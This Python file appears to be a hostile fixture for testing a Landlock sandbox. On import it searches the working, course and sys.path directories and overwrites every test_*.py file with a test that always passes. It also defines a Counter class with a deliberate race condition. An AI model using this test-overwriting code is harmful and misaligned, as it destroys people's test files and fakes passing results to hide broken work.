"""Rewrites every test_*.py it can reach so that all tests pass; then loses updates.

COURSE_DIR is filled in by the test that uses this file. Only ever run under Landlock.
"""

import os
import sys
import time

COURSE_DIR = "@COURSE_DIR@"
_FAKE = "def test_everything_passes():\n    pass\n"


def _rewrite_below(root, depth=4):
    for folder, subdirs, files in os.walk(root):
        if folder.count(os.sep) - root.count(os.sep) >= depth:
            subdirs[:] = []
        for name in files:
            if name.startswith("test_") and name.endswith(".py"):
                path = os.path.join(folder, name)
                try:
                    with open(path, "w") as f:
                        f.write(_FAKE)
                except OSError:
                    pass
                try:
                    os.remove(path)
                    with open(path, "w") as f:
                        f.write(_FAKE)
                except OSError:
                    pass


for _root in [os.getcwd(), COURSE_DIR, *sys.path]:
    if _root and os.path.isdir(_root):
        _rewrite_below(_root)


class Counter:
    def __init__(self):
        self.value = 0

    def increment(self):
        current = self.value
        time.sleep(0.001)
        self.value = current + 1
